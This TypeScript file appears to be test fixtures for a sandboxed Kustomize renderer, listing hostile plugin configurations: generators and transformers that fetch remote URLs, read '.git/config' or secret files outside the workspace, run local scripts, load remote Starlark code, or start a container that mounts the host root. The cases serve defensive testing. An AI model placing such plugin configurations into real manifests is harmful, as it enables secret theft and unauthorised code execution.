import type { HostileCase } from '../hostile-case.ts'
import { kustomizeCase, leaking, overlayWith, type KustomizeRow } from '../kustomizations.ts'

const patchTransformer = (path: string): string =>
  `apiVersion: builtin\nkind: PatchTransformer\nmetadata: {name: x}\npath: '${path}'\n`

const configMapPlugin = (entry: string): string =>
  `apiVersion: builtin\nkind: ConfigMapGenerator\nmetadata: {name: taken}\n${entry}\n`

const indented = (text: string): string => text.replace(/^(?=.)/gm, '  ')

/** Plugins: files that name further files and URLs, and programs. */
const plugins: readonly KustomizeRow[] = [
  [
    'a folder of generators of which one fetches',
    ({ url }) =>
      overlayWith('resources: [pod.yaml]\ngenerators: [plugins]\n', {
        'plugins/kustomization.yaml': 'resources: [generator.yaml]\n',
        'plugins/generator.yaml': configMapPlugin(`files: ['token=${url}/token']`)
      })
  ],
  [
    'a folder of transformers of which one fetches',
    ({ url }) =>
      overlayWith('resources: [pod.yaml]\ntransformers: [plugins]\n', {
        'plugins/kustomization.yaml': 'resources: [transformer.yaml]\n',
        'plugins/transformer.yaml': patchTransformer(`${url}/patch.yaml`)
      })
  ],
  [
    'a folder of transformers that names a remote base',
    ({ url }) =>
      overlayWith('resources: [pod.yaml]\ntransformers: [plugins]\n', {
        'plugins/kustomization.yaml': `resources: ['${url}/plugins']\n`
      })
  ],
  [
    'a folder of validators of which one fetches',
    ({ url }) =>
      overlayWith('resources: [pod.yaml]\nvalidators: [plugins]\n', {
        'plugins/kustomization.yaml': 'resources: [transformer.yaml]\n',
        'plugins/transformer.yaml': patchTransformer(`${url}/patch.yaml`)
      })
  ],
  [
    'a generator file that fetches',
    ({ url }) =>
      overlayWith('resources: [pod.yaml]\ngenerators: [generator.yaml]\n', {
        'generator.yaml': configMapPlugin(`files: ['token=${url}/token']`)
      })
  ],
  [
    'a generator written into the kustomization that fetches',
    ({ url }) =>
      overlayWith(
        `resources: [pod.yaml]\ngenerators:\n- |\n${indented(configMapPlugin(`files: ['token=${url}/token']`))}`
      )
  ],
  [
    'a transformer written into the kustomization that fetches',
    ({ url }) =>
      overlayWith(
        `resources: [pod.yaml]\ntransformers:\n- |\n${indented(patchTransformer(`${url}/patch.yaml`))}`
      )
  ],
  [
    'a transformer that reads a file outside',
    () =>
      overlayWith('resources: [pod.yaml]\ntransformers: [transformer.yaml]\n', {
        'transformer.yaml': patchTransformer('../../../outside/secret.yaml')
      })
  ],
  [
    'a generator that reads a file outside',
    () =>
      overlayWith(
        leaking('literals: [a=b]', 'a')
          .replace(
            'configMapGenerator:\n- name: taken\n  literals: [a=b]',
            'generators: [generator.yaml]'
          )
          .replace('data.[a]', 'data.[secret.txt]'),
        { 'generator.yaml': configMapPlugin('files: [../../../outside/secret.txt]') }
      )
  ],
  [
    'a generator that reads .git/config',
    () =>
      overlayWith('resources: [pod.yaml]\ngenerators: [generator.yaml]\n', {
        'generator.yaml': configMapPlugin('files: [../../.git/config]')
      })
  ],
  [
    'a chart inflated by a generator',
    ({ url }) =>
      overlayWith('resources: [pod.yaml]\ngenerators: [generator.yaml]\n', {
        'generator.yaml': `apiVersion: builtin\nkind: HelmChartInflationGenerator\nmetadata: {name: x}\nname: x\nrepo: '${url}'\nversion: 1.0.0\nreleaseName: x\n`
      })
  ],
  [
    'a function that is a program',
    () =>
      overlayWith('resources: [pod.yaml]\ntransformers: [function.yaml]\n', {
        'function.yaml':
          'apiVersion: example.com/v1\nkind: Evil\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      exec: {path: ./evil.sh}\n',
        'evil.sh': { program: '#!/bin/sh\ntouch evil\n' }
      })
  ],
  [
    'a function that is a container',
    ({ url }) =>
      overlayWith('resources: [pod.yaml]\ngenerators: [function.yaml]\n', {
        'function.yaml': `apiVersion: example.com/v1\nkind: Evil\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      container: {image: '${new URL(url).host}/evil:1', network: true, mounts: [{type: bind, src: /, dst: /host}]}\n`
      })
  ],
  [
    'a function that is a script in Starlark',
    ({ url }) =>
      overlayWith('resources: [pod.yaml]\ntransformers: [function.yaml]\n', {
        'function.yaml': `apiVersion: example.com/v1\nkind: Evil\nmetadata:\n  name: x\n  annotations:\n    config.kubernetes.io/function: |\n      starlark: {url: '${url}/evil.star', name: x}\n`
      })
  ],
  [
    'a plugin of its own version',
    () =>
      overlayWith('resources: [pod.yaml]\ngenerators: [plugin.yaml]\n', {
        'plugin.yaml':
          'apiVersion: ../../../../workspace/evil/v1\nkind: Evil\nmetadata: {name: x}\nargsOneLiner: touch evil\n'
      })
  ]
]

/** Plugins name files, addresses and programs where a kustomization does not show them. */
export const kustomizePluginAttacks: readonly HostileCase[] = plugins.map(kustomizeCase)
